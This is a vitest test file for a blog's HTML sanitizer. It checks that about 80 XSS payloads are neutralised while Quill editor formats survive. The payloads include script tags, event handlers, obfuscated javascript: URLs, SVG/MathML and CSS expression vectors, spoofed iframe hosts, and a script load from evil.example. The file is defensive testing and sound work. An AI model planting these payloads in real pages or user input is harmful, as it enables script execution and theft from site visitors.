import { Window } from 'happy-dom';
import { afterAll, describe, expect, it } from 'vitest';
import { sanitizePostHtml } from '../../server/domains/blog/sanitizer.ts';

// A DOM only to read the sanitizer's output the way a browser would; nothing is loaded or run.
const window = new Window({
  settings: {
    disableJavaScriptEvaluation: true,
    disableJavaScriptFileLoading: true,
    disableCSSFileLoading: true,
    disableIframePageLoading: true,
  },
});
const { document } = window;
afterAll(() => window.close());

function parse(html: string) {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

const ALLOWED_TAGS = new Set(
  'h1 h2 h3 h4 h5 h6 p br strong b em i u s span sub sup ol ul li a img iframe blockquote pre div'.split(
    ' ',
  ),
);
const VIDEO_SRC_RE =
  /^https:\/\/(?:(?:www\.)?youtube(?:-nocookie)?\.com\/embed\/|player\.vimeo\.com\/video\/)/;

/** What a browser would see in the output: only allowed tags, no handlers, no script URLs. */
function expectInertDom(html: string): void {
  for (const element of parse(html).querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    expect(ALLOWED_TAGS, `<${tag}> in ${html}`).toContain(tag);
    for (const { name, value } of Array.from(element.attributes)) {
      expect(name, html).not.toMatch(/^on/i);
      expect(['srcdoc', 'srcset', 'formaction', 'xlink:href'], html).not.toContain(name);
      if (name === 'href' || name === 'src') {
        // eslint-disable-next-line no-control-regex -- browsers skip these inside a scheme
        expect((value ?? '').replace(/[\s\u0000-\u001f]/g, ''), html).toMatch(
          /^(?:https?:|mailto:|tel:|data:image\/(?:png|jpeg|gif|webp);base64,|\/(?![/\\])|#)/i,
        );
      }
      if (name === 'style') expect(value, html).not.toMatch(/url|expression|behavior|binding|\\/i);
    }
    if (tag === 'iframe') expect(element.getAttribute('src') ?? '', html).toMatch(VIDEO_SRC_RE);
  }
}

/** The textual checks asked of every payload (case-insensitive). */
function expectNoActiveContent(html: string): void {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/on\w+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:/i);
  expect(html).not.toMatch(/data:text/i);
  expect(html).not.toMatch(/expression\(/i);
  expect(html).not.toMatch(
    /<iframe(?![^>]*src="https:\/\/(?:www\.youtube\.com|player\.vimeo\.com)\/)/i,
  );
  // Stripped elements disappear; they are never escaped into visible markup.
  expect(html).not.toMatch(/&lt;\/?[a-z!]/i);
}

const EVENT_HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus autofocus tabindex="1"',
];

// Each allowed tag, in a form that survives, carrying a handler: the element stays, the handler goes.
const HANDLER_ON_ALLOWED_TAG: Array<[string, string]> = [
  ['h1', '<h1 HANDLER>t</h1>'],
  ['h2', '<h2 HANDLER>t</h2>'],
  ['h3', '<h3 HANDLER>t</h3>'],
  ['h4', '<h4 HANDLER>t</h4>'],
  ['h5', '<h5 HANDLER>t</h5>'],
  ['h6', '<h6 HANDLER>t</h6>'],
  ['p', '<p HANDLER>t</p>'],
  ['br', '<p>a<br HANDLER>b</p>'],
  ['strong', '<strong HANDLER>t</strong>'],
  ['b', '<b HANDLER>t</b>'],
  ['em', '<em HANDLER>t</em>'],
  ['i', '<i HANDLER>t</i>'],
  ['u', '<u HANDLER>t</u>'],
  ['s', '<s HANDLER>t</s>'],
  ['span', '<span style="color: red" HANDLER>t</span>'],
  ['sub', '<sub HANDLER>t</sub>'],
  ['sup', '<sup HANDLER>t</sup>'],
  ['ol', '<ol HANDLER><li>t</li></ol>'],
  ['ul', '<ul HANDLER><li>t</li></ul>'],
  ['li', '<ol><li data-list="bullet" HANDLER>t</li></ol>'],
  ['a', '<a href="https://example.com/" HANDLER>t</a>'],
  ['img', '<img src="/uploads/a.png" HANDLER>'],
  ['iframe', '<iframe class="ql-video" src="https://www.youtube.com/embed/abc" HANDLER></iframe>'],
  ['blockquote', '<blockquote HANDLER>t</blockquote>'],
  ['pre', '<pre data-language="plain" HANDLER>t</pre>'],
  ['div', '<div class="ql-code-block-container" HANDLER><div class="ql-code-block">t</div></div>'],
];

const XSS_PAYLOADS: string[] = [
  // script tags
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
  '<script><script>alert(1)</script></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p>unterminated<script>alert(1)',
  '<script/src="data:text/javascript,alert(1)"></script>',
  '<p>hi<script type="module">import("//evil.example")</script></p>',
  '<script\n>alert(1)</script\n>',
  // event handlers on things that are not allowed at all
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  // script URLs in links
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<a href="&#14;javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  // images
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=x onerror=alert(1)>',
  '<img src="/uploads/a.png" srcset="javascript:alert(1) 1x">',
  '<img src="/uploads/a.png" alt="x" onerror="alert(1)"',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  // svg and math
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  // styles
  '<span style="color: expression(alert(1))">x</span>',
  '<span style="background-color: url(javascript:alert(1))">x</span>',
  '<span style="behavior: url(x.htc)">x</span>',
  '<span style="color: red; position: fixed; top: 0; left: 0; width: 100%">x</span>',
  '<p style="background-image: url(javascript:alert(1))">x</p>',
  '<img src="/uploads/a.png" style="width: expression(alert(1)); height: url(javascript:alert(1))">',
  '<span style="color: r\\65 d; background-color: e\\78pression(alert(1))">x</span>',
  '<div style="-moz-binding: url(https://evil.example/xss.xml#x)">x</div>',
  '<style>body { background: url("javascript:alert(1)") }</style>',
  '<span style="color: red;} body { background: url(javascript:alert(1))">x</span>',
  // iframes
  '<iframe src="https://evil.example/embed/x" class="ql-video"></iframe>',
  '<iframe class="ql-video" src="//evil.example/embed/x"></iframe>',
  '<iframe class="ql-video" src="javascript:alert(1)"></iframe>',
  '<iframe class="ql-video" src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe class="ql-video" src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe class="ql-video" src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe class="ql-video" src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>',
  // other active elements
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  // malformed, comments, CDATA
  '<div><p>unclosed <b onclick=alert(1)>bold',
  '<a href="https://example.com/" title="x" onmouseover=alert(1)//',
  '<!--<script>alert(1)</script>-->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<img """><script>alert(1)</script>">',
];

describe('sanitizePostHtml: XSS corpus', () => {
  it('has at least 40 payloads', () => {
    expect(
      XSS_PAYLOADS.length + HANDLER_ON_ALLOWED_TAG.length * EVENT_HANDLERS.length,
    ).toBeGreaterThanOrEqual(40);
  });

  it.each(XSS_PAYLOADS)('neutralises %j', (payload) => {
    const out = sanitizePostHtml(payload);
    expectNoActiveContent(out);
    expectInertDom(out);
  });

  describe.each(EVENT_HANDLERS)('%s on every allowed tag', (handler) => {
    it.each(HANDLER_ON_ALLOWED_TAG)(
      '<%s> keeps the element and loses the handler',
      (tag, template) => {
        const out = sanitizePostHtml(template.replace('HANDLER', `${handler}="alert(1)"`));
        expect(out).toContain(`<${tag}`);
        expect(out).not.toMatch(/autofocus|tabindex/i);
        expectNoActiveContent(out);
        expectInertDom(out);
      },
    );
  });
});

describe('sanitizePostHtml: what is removed and what stays', () => {
  it.each([
    [
      'a script with its content',
      '<p>before<script>alert(1)</script>after</p>',
      '<p>beforeafter</p>',
    ],
    ['a style element with its content', '<style>p{color:red}</style><p>x</p>', '<p>x</p>'],
    ['svg with its content', '<svg><text>drawn</text></svg><p>x</p>', '<p>x</p>'],
    [
      'a foreign iframe with its content',
      '<p>a<iframe src="https://evil.example/"><b>in</b></iframe>b</p>',
      '<p>ab</p>',
    ],
    ['a table, keeping cell text', '<table><tr><td>cell</td></tr></table>', 'cell'],
    ['a font tag, keeping its text', '<p><font color="red">red</font></p>', '<p>red</p>'],
    [
      'an unsafe link, keeping its text',
      '<p><a href="javascript:alert(1)">text</a></p>',
      '<p>text</p>',
    ],
    [
      'a relative link that leaves the site',
      '<p><a href="//evil.example/">text</a></p>',
      '<p>text</p>',
    ],
    ['a bare span', '<p><span>plain</span></p>', '<p>plain</p>'],
    ['a pasted div, which becomes a paragraph', '<div>pasted</div>', '<p>pasted</p>'],
    [
      'classes that are not toolbar formats',
      '<p class="ql-size-huge evil ql-align-center">x</p>',
      '<p class="ql-align-center">x</p>',
    ],
    ['indent classes beyond 8', '<p class="ql-indent-9">x</p>', '<p>x</p>'],
    [
      'a list marker value Quill does not use here',
      '<ol><li data-list="checked">x</li></ol>',
      '<ol><li>x</li></ol>',
    ],
    ['ids and data attributes', '<p id="x" data-x="1" title="t">x</p>', '<p>x</p>'],
    [
      'an unsafe code language name',
      '<pre data-language="x&quot; onclick=&quot;y">c</pre>',
      '<pre>c</pre>',
    ],
  ])('removes %s', (_case, input, expected) => {
    expect(sanitizePostHtml(input)).toBe(expected);
  });

  it('keeps stray "<" characters around a dropped script as the text a browser would show', () => {
    // Browsers read this as "<", a script element, then the text "/script>": only the script goes.
    const out = sanitizePostHtml('<<script>script>alert(1)<</script>/script>');
    expect(out).toBe('&lt;/script&gt;');
    expect(parse(out).children).toHaveLength(0);
  });

  it('keeps text escaped, not decoded into markup', () => {
    expect(sanitizePostHtml('<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &lt;script&gt;</p>')).toBe(
      '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &lt;script&gt;</p>',
    );
  });

  it.each([
    ['https', 'https://example.com/a?b=1#c', true],
    ['http', 'http://example.com/', true],
    ['mailto', 'mailto:hi@example.com', true],
    ['tel', 'tel:+15551234567', true],
    ['a same-site path', '/blog/other-post', true],
    ['an anchor', '#section', true],
    ['ftp', 'ftp://example.com/file', false],
    ['sms', 'sms:+15551234567', false],
    ['file', 'file:///etc/passwd', false],
    ['a backslash host', '/\\evil.example', false],
    ['a bare word (no scheme, not a path)', 'example.com', false],
  ])('links: %s is %s', (_case, href, kept) => {
    const out = sanitizePostHtml(`<a href="${href}">x</a>`);
    if (kept) expect(out).toBe(`<a href="${href}" rel="noopener noreferrer">x</a>`);
    else expect(out).toBe('x');
  });

  it('forces rel="noopener noreferrer" and allows only target="_blank"', () => {
    expect(
      sanitizePostHtml('<a href="https://e.example/" rel="opener" target="_blank">x</a>'),
    ).toBe('<a href="https://e.example/" rel="noopener noreferrer" target="_blank">x</a>');
    expect(sanitizePostHtml('<a href="https://e.example/" target="_top">x</a>')).toBe(
      '<a href="https://e.example/" rel="noopener noreferrer">x</a>',
    );
  });

  it.each([
    ['https', 'https://cdn.example.com/a.png', true],
    ['http', 'http://cdn.example.com/a.png', true],
    ['a png data URI', 'data:image/png;base64,iVBORw0KGgo=', true],
    ['a jpeg data URI', 'data:image/jpeg;base64,/9j/4AAQ', true],
    ['a gif data URI', 'data:image/gif;base64,R0lGODlh', true],
    ['a webp data URI', 'data:image/webp;base64,UklGRg==', true],
    ['our uploads', '/uploads/2026/07/a.webp', true],
    ['our media', '/media/posts/a.jpg', true],
    ['an svg data URI', 'data:image/svg+xml;base64,PHN2Zz4=', false],
    ['a non-base64 data URI', 'data:image/png,rawbytes', false],
    ['a bmp data URI', 'data:image/bmp;base64,Qk0=', false],
    ['another same-site path', '/api/admin/posts', false],
    ['a traversal out of uploads', '/uploads/../api/admin', false],
    ['a protocol-relative URL', '//evil.example/a.png', false],
    ['a plain relative name', 'a.png', false],
  ])('images: %s is %s', (_case, src, kept) => {
    const out = sanitizePostHtml(`<p><img src="${src}" alt="a"></p>`);
    if (kept) expect(out).toBe(`<p><img alt="a" src="${src}" /></p>`);
    else expect(out).toBe('<p></p>');
  });

  it("marks an image without alt text as decorative and keeps an author's alt text", () => {
    expect(sanitizePostHtml('<p><img src="/uploads/a.png"></p>')).toBe(
      '<p><img alt="" src="/uploads/a.png" /></p>',
    );
    expect(sanitizePostHtml('<p><img src="/uploads/a.png" alt="A red fox"></p>')).toBe(
      '<p><img alt="A red fox" src="/uploads/a.png" /></p>',
    );
  });

  it('keeps only size declarations in an image style', () => {
    expect(
      sanitizePostHtml(
        '<img src="/uploads/a.png" style="width: 100%; max-width: 800px; height: auto; float: left; border: 1px solid red">',
      ),
    ).toBe('<img alt="" style="width:100%;max-width:800px;height:auto" src="/uploads/a.png" />');
  });

  it.each([
    ['youtube.com', 'https://youtube.com/embed/dQw4w9WgXcQ', true],
    ['www.youtube.com with a query', 'https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0', true],
    ['youtube-nocookie.com', 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ', true],
    ['player.vimeo.com', 'https://player.vimeo.com/video/76979871/', true],
    ['plain http', 'http://www.youtube.com/embed/dQw4w9WgXcQ', false],
    ['a YouTube watch page', 'https://www.youtube.com/watch?v=dQw4w9WgXcQ', false],
    ['a look-alike host', 'https://youtube.com.evil.example/embed/x', false],
    ['credentials before the host', 'https://www.youtube.com:pw@evil.example/embed/x', false],
    ['vimeo.com itself', 'https://vimeo.com/76979871', false],
    ['a relative URL', '/embed/x', false],
  ])('videos: %s is %s', (_case, src, kept) => {
    const out = sanitizePostHtml(
      `<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="${src}"></iframe>`,
    );
    if (kept) {
      expect(out).toBe(
        `<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="${src}"></iframe>`,
      );
    } else expect(out).toBe('');
  });

  it.each([
    ['hex', '#e60000', true],
    ['short hex', '#f00', true],
    ['rgb', 'rgb(230, 0, 0)', true],
    ['rgba', 'rgba(230, 0, 0, 0.5)', true],
    ['a named colour', 'rebeccapurple', true],
    ['url()', 'url(https://evil.example/track.png)', false],
    ['var()', 'var(--x)', false],
    ['expression()', 'expression(alert(1))', false],
    ['a CSS escape', 'r\\65 d', false],
  ])('colours: %s is %s', (_case, value, kept) => {
    const out = sanitizePostHtml(
      `<span style="color: ${value}; background-color: ${value}">x</span>`,
    );
    if (kept) expect(out).toBe(`<span style="color:${value};background-color:${value}">x</span>`);
    else expect(out).toBe('x');
  });
});

/** Whitespace- and attribute-order-insensitive form of a fragment, as a browser parses it. */
function canonical(html: string): string {
  const walk = (node: ReturnType<typeof parse>['childNodes'][number]): string => {
    if (node.nodeType === 3) return (node.textContent ?? '').replace(/\s+/g, ' ');
    if (node.nodeType !== 1) return '';
    const element = node as unknown as Element;
    const tag = element.tagName.toLowerCase();
    const attributes = Array.from(element.attributes)
      .map(({ name, value }) => {
        const normalised =
          name === 'style'
            ? value
                .split(';')
                .map((d) => d.replace(/\s*:\s*/, ':').trim())
                .filter(Boolean)
                .join(';')
            : value;
        return ` ${name}="${normalised}"`;
      })
      .sort()
      .join('');
    const children = Array.from(element.childNodes, (child) => walk(child as never)).join('');
    return `<${tag}${attributes}>${children}</${tag}>`;
  };
  return Array.from(parse(html).childNodes, (child) => walk(child))
    .join('')
    .replace(/\s+/g, ' ');
}

// Every toolbar format (spec 2 "Blog management"), as Quill 2 writes it.
const EVERY_TOOLBAR_FORMAT = `
<h1>Heading 1</h1><h2>Heading 2</h2><h3>Heading 3</h3>
<h4>Heading 4</h4><h5>Heading 5</h5><h6>Heading 6</h6>
<p>Normal <strong>bold</strong> <b>b</b> <em>italic</em> <i>i</i> <u>underline</u> <s>strike</s></p>
<p><span style="color: rgb(230, 0, 0);">red</span> <span style="background-color: rgb(255, 255, 0);">marked</span>
  <strong style="color: #0066cc; background-color: #ffebcc;">blue bold</strong> <em style="color: green;">green</em></p>
<p>H<sub>2</sub>O and E = mc<sup>2</sup></p>
<ol>
  <li data-list="ordered">first</li>
  <li data-list="ordered" class="ql-indent-1">first, nested</li>
  <li data-list="bullet">bullet</li>
  <li data-list="bullet" class="ql-indent-8">deepest bullet</li>
</ol>
<ul><li>semantic bullet<ul><li>nested</li></ul></li></ul>
<p class="ql-indent-3">indented paragraph</p>
<p class="ql-align-center">centred</p><p class="ql-align-right">right</p>
<h2 class="ql-align-justify ql-indent-1">justified heading</h2>
<p><a href="https://example.com/guide" rel="noopener noreferrer" target="_blank">link</a>,
  <a href="mailto:hi@example.com" rel="noopener noreferrer" target="_blank">mail</a>,
  <a href="tel:+15551234567" rel="noopener noreferrer" target="_blank">call</a></p>
<p><img src="https://cdn.example.com/a.png" style="width: 100%; max-width: 800px; height: auto;" alt="A"></p>
<p><img alt="" src="/uploads/2026/07/b.webp" style="width: 100%; max-width: 800px; height: auto;" width="640" height="360"></p>
<p><img alt="" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" style="width: 100%; max-width: 800px; height: auto;"></p>
<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0"></iframe>
<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://player.vimeo.com/video/76979871/"></iframe>
<blockquote>A quote</blockquote>
<blockquote class="ql-indent-1">An indented quote</blockquote>
<pre data-language="plain">const a = 1 &lt; 2 &amp;&amp; "b";</pre>
<pre class="ql-syntax">legacy Quill syntax block</pre>
<div class="ql-code-block-container"><div class="ql-code-block" data-language="javascript">let x = 1;</div><div class="ql-code-block" data-language="javascript">x += 1;</div></div>
<p><br></p>
`;

describe('sanitizePostHtml: editor round trip', () => {
  it('keeps every toolbar format unchanged', () => {
    expect(canonical(sanitizePostHtml(EVERY_TOOLBAR_FORMAT))).toBe(canonical(EVERY_TOOLBAR_FORMAT));
  });

  it('drops Quill 2 editor chrome from root.innerHTML and keeps the formats', () => {
    const fromEditorRoot =
      '<ol><li data-list="bullet"><span class="ql-ui" contenteditable="false"></span>item</li></ol>' +
      '<div class="ql-code-block-container" spellcheck="false">' +
      '<select class="ql-ui" contenteditable="false"><option value="plain">Plain</option></select>' +
      '<div class="ql-code-block" data-language="plain">code</div></div>';
    expect(sanitizePostHtml(fromEditorRoot)).toBe(
      '<ol><li data-list="bullet">item</li></ol>' +
        '<div class="ql-code-block-container"><div class="ql-code-block" data-language="plain">code</div></div>',
    );
  });
});
